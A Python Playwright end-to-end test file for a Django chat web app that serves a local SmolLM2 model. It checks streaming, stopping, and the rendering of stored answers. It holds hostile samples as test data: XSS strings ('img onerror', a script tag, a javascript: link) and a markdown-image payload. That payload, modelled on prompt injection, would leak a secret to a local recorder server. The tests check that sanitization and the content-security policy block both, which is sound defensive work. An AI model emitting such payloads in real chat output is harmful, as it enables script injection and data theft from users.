"""The chat page in headless Chromium against a real Daphne serving the bundled SmolLM2.

Debian's chromium, driven by Playwright for Python (never `playwright install`); screenshots
land in test-artifacts/chat-*.png.
"""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest
from playwright.sync_api import expect, sync_playwright

pytestmark = [pytest.mark.e2e, pytest.mark.browser]

REPO_ROOT = Path(__file__).resolve().parents[2]
CHROMIUM = "/usr/bin/chromium"
USERNAME, PASSWORD = "chat-tester", "chat-tester-pw-51"
MODEL = "smollm2"
TIMEOUT_MS = 120_000
XSS = "<img src=x onerror=alert(1)>"
DOT = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
# A saved answer as a hostile model could write it: raw HTML, a script, a javascript: link, code.
HOSTILE_ANSWER = ("Here you go:\n\n" + XSS + "\n\n<script>alert(2)</script>\n\n[click](javascript:alert(3))\n\n"
                  "```python\nprint('hi')\n```\n")


CSP_LISTENER = """window.__csp = [];
document.addEventListener("securitypolicyviolation",
  (e) => window.__csp.push(`${e.effectiveDirective} ${e.blockedURI}`));"""


def csp_violations(page) -> list[str]:
    return page.evaluate("window.__csp") + page.csp_console


def manage(site, *args: str, env: dict | None = None) -> str:
    result = subprocess.run([sys.executable, "manage.py", *args], cwd=REPO_ROOT, env={**site.env, **(env or {})},
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr
    return result.stdout


@pytest.fixture(scope="module")
def chat_site(embedded_site):
    manage(embedded_site, "createsuperuser", "--noinput", "--username", USERNAME, "--email", "t@example.com",
           env={"DJANGO_SUPERUSER_PASSWORD": PASSWORD})
    return embedded_site


@pytest.fixture(scope="module")
def browser():
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM,
                                    args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"])
        yield browser
        browser.close()


@pytest.fixture
def page(browser, chat_site):
    """A logged-in page on an empty chat; records every dialog (an alert would mean injected script)."""
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    expect.set_options(timeout=TIMEOUT_MS)  # answers take seconds on two shared CPU cores
    page.dialogs = []
    page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
    # Whatever the page's Content-Security-Policy refused: an event in the page, a line in the console.
    context.add_init_script(CSP_LISTENER)
    page.csp_console = []
    page.on("console", lambda msg: "Content Security Policy" in msg.text and page.csp_console.append(msg.text))
    page.goto(f"{chat_site.url}/")
    assert "/accounts/login/" in page.url
    page.fill("#id_username", USERNAME)
    page.fill("#id_password", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url(f"{chat_site.url}/")
    expect(page.locator("#connection")).to_have_text("connected")
    page.select_option("#model", MODEL)
    yield page
    context.close()


def ask(page, text: str, max_tokens: int) -> None:
    page.click("summary")
    page.fill("#max-tokens", str(max_tokens))
    page.fill("#temperature", "0")
    page.click("summary")
    page.fill("#prompt", text)
    page.press("#prompt", "Enter")


def running(site) -> float | None:
    return site.metric("pagoda:num_requests_running", model_name=MODEL)


def test_login_send_see_tokens_stream_then_reload_finds_the_conversation(page, chat_site, artifacts_dir):
    ask(page, "Write three sentences about the sea.", max_tokens=60)
    answer = page.locator(".message.assistant").last
    expect(page.locator(".message.assistant.waiting, .message.assistant.streaming")).to_have_count(1)
    # Tokens on screen while the answer is still being written.
    # (read in the same poll as the condition: the whole answer may arrive a moment later)
    partial = page.wait_for_function("""() => {
        const el = document.querySelector('.message.assistant.streaming .body');
        return el && el.textContent.trim().length > 0 && !document.getElementById('stop').hidden
          && el.textContent; }""", polling="raf").json_value()
    page.screenshot(path=str(artifacts_dir / "chat-streaming.png"))
    expect(page.locator("#stop")).to_be_hidden()
    final = answer.locator(".body").inner_text()
    assert len(final) > len(partial.strip())
    expect(answer.locator(".meta")).to_contain_text("tok/s")
    expect(answer.locator(".meta")).to_contain_text("prefix cache")
    assert re.search(r"/c/\d+/$", page.url)
    page.screenshot(path=str(artifacts_dir / "chat-answered.png"))

    page.reload()
    expect(page.locator(".conv.active .conv-title")).to_have_text("Write three sentences about the sea.")
    expect(page.locator(".message.user .body")).to_have_text("Write three sentences about the sea.")
    expect(page.locator(".message.assistant .body")).to_have_text(final)
    assert page.dialogs == []
    assert csp_violations(page) == []  # the whole flow (scripts, styles, WebSocket) within the policy


def test_stop_mid_answer_aborts_the_generation_in_the_engine(page, chat_site, artifacts_dir):
    ask(page, "Tell me a very long story about a dragon.", max_tokens=400)
    page.wait_for_function("() => (document.querySelector('.message.assistant.streaming .body') || {})"
                           ".textContent?.trim().length > 0")
    chat_site.wait_until(lambda: running(chat_site) == 1, "the worker reporting the chat answer as running")
    page.click("#stop")

    expect(page.locator("#stop")).to_be_hidden()
    expect(page.locator(".message.assistant .meta").last).to_contain_text("stopped")
    chat_site.wait_until(lambda: running(chat_site) == 0, "the engine's running count returning to 0", timeout=15)
    page.screenshot(path=str(artifacts_dir / "chat-stopped.png"))


def test_markup_from_the_user_or_the_model_shows_as_text_and_runs_no_script(page, chat_site, artifacts_dir):
    ask(page, XSS, max_tokens=5)
    expect(page.locator("#stop")).to_be_hidden()
    expect(page.locator(".message.user .body")).to_have_text(XSS)
    assert page.locator(".messages img").count() == 0

    conversation = manage(chat_site, "shell", "-c", (
        "from django.contrib.auth import get_user_model; from webapp.chat.models import Conversation, Message; "
        f"c = Conversation.objects.create(user=get_user_model().objects.get(username={USERNAME!r}), title='hostile'); "
        f"Message.objects.create(conversation=c, role='user', content={XSS!r}); "
        f"Message.objects.create(conversation=c, role='assistant', content={HOSTILE_ANSWER!r}); print(c.pk)")).split()[-1]
    page.goto(f"{chat_site.url}/c/{conversation}/")
    body = page.locator(".message.assistant .body")
    expect(body).to_contain_text("Here you go")
    assert page.locator(".messages img, .messages script").count() == 0
    assert page.locator(".messages a[href^='javascript']").count() == 0
    expect(body.locator("pre code .hljs-built_in, pre code [class^=hljs-]").first).to_be_visible()
    expect(body.locator("pre .copy")).to_have_text("Copy")
    page.wait_for_timeout(300)  # an injected onerror would have fired by now
    page.screenshot(path=str(artifacts_dir / "chat-sanitized.png"))
    assert page.dialogs == []


@pytest.fixture
def elsewhere():
    """Another origin that records every request it gets: where an injected prompt would send data."""
    import http.server
    import threading

    hits = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", hits
    server.shutdown()


def test_model_output_cannot_load_a_remote_image_and_the_page_stays_within_its_csp(page, chat_site, elsewhere,
                                                                                   artifacts_dir):
    origin, hits = elsewhere
    answer = (f"Summary ![the secret]({origin}/leak.png?q=secret) and a dot ![dot]({DOT})\n\n"
              "| left | right |\n|:-----|------:|\n| a | 1 |\n")
    conversation = manage(chat_site, "shell", "-c", (
        "from django.contrib.auth import get_user_model; from webapp.chat.models import Conversation, Message; "
        f"c = Conversation.objects.create(user=get_user_model().objects.get(username={USERNAME!r}), title='img'); "
        "Message.objects.create(conversation=c, role='user', content='summarise'); "
        f"Message.objects.create(conversation=c, role='assistant', content={answer!r}); print(c.pk)")).split()[-1]
    page.goto(f"{chat_site.url}/c/{conversation}/")
    body = page.locator(".message.assistant .body")
    expect(body.locator(".blocked-image")).to_have_text("the secret")
    expect(body.locator("img")).to_have_count(1)  # the data: image stays
    expect(body.locator("td.align-right")).to_have_text("1")  # alignment kept, as a class
    page.wait_for_timeout(300)
    assert csp_violations(page) == []
    page.screenshot(path=str(artifacts_dir / "chat-remote-image.png"))

    # Should a remote image reach the page some other way, the header's img-src refuses it.
    page.evaluate(f"() => {{ const i = new Image(); i.src = '{origin}/probe.png'; document.body.append(i); }}")
    page.wait_for_function("() => window.__csp.length > 0")
    assert page.evaluate("window.__csp") == [f"img-src {origin}/probe.png"]
    page.wait_for_timeout(300)
    assert hits == []  # the other origin never heard from the page
